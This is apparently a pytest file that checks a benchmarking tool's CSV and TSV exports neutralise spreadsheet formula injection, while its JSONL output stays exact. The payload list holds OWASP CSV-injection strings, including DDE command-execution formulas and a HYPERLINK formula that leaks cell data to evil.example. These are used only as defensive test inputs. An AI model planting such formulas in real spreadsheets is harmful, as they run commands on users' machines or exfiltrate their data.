"""CSV files for people neutralise formula injection (OWASP); data files keep their text."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

import polars as pl
import pytest

from benchcheck.io.spreadsheet import FORMULA_STARTS, neutralise_frame, restore_frame
from benchcheck.io.tables import read_rows, write_rows
from benchcheck.runs.audit import write_report

# OWASP "CSV Injection" payloads, and harmless cells that look like them
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "a=b", "", "1-2", "'quoted"]


def test_every_payload_is_prefixed_and_harmless_cells_kept():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    frame = pl.DataFrame({"text": PAYLOADS + HARMLESS, "n": list(range(-6, 6))})
    out = neutralise_frame(frame)
    assert out["text"].to_list() == ["'" + p for p in PAYLOADS] + HARMLESS
    assert out["n"].to_list() == frame["n"].to_list()  # numbers stay numbers
    assert restore_frame(out)["text"].to_list() == frame["text"].to_list()


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_write_rows_spreadsheet_safe(tmp_path, suffix):
    frame = pl.DataFrame({"id": ["a", "b"], "text": [PAYLOADS[0], "fine"]})
    safe = write_rows(frame, tmp_path / f"safe{suffix}", spreadsheet_safe=True)
    plain = write_rows(frame, tmp_path / f"plain{suffix}")
    sep = "\t" if suffix == ".tsv" else ","
    cells = list(csv.reader(io.StringIO(safe.read_text(encoding="utf-8")), delimiter=sep))
    assert cells[1][1] == "'" + PAYLOADS[0]
    assert read_rows(plain)["text"].to_list() == [PAYLOADS[0], "fine"]  # data: exact
    jsonl = write_rows(frame, tmp_path / "x.jsonl", spreadsheet_safe=True)
    assert json.loads(jsonl.read_text().splitlines()[0])["text"] == PAYLOADS[0]


def test_report_flagged_csv_is_safe_and_jsonl_exact(tmp_path):
    flagged = pl.DataFrame(
        {
            "rank": [1, 2],
            "id": ["=1+1", "b"],
            "text": [PAYLOADS[1], "@import"],
            "label": ["1", "-1"],
        }
    )
    results = {"title": "t", "inputs": {}, "analyses": []}
    report = SimpleNamespace(results=results, flagged=flagged, ner_flags=None, files={}, sources=())
    write_report(report, tmp_path / "r")  # type: ignore[arg-type]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r" / "flagged.csv").read_text())))
    assert [r["id"] for r in rows] == ["'=1+1", "b"]
    assert [r["text"] for r in rows] == ["'" + PAYLOADS[1], "'@import"]
    assert [r["label"] for r in rows] == ["1", "'-1"]  # shown as -1, as text
    lines = (tmp_path / "r" / "flagged.jsonl").read_text().splitlines()
    assert json.loads(lines[0])["text"] == PAYLOADS[1]
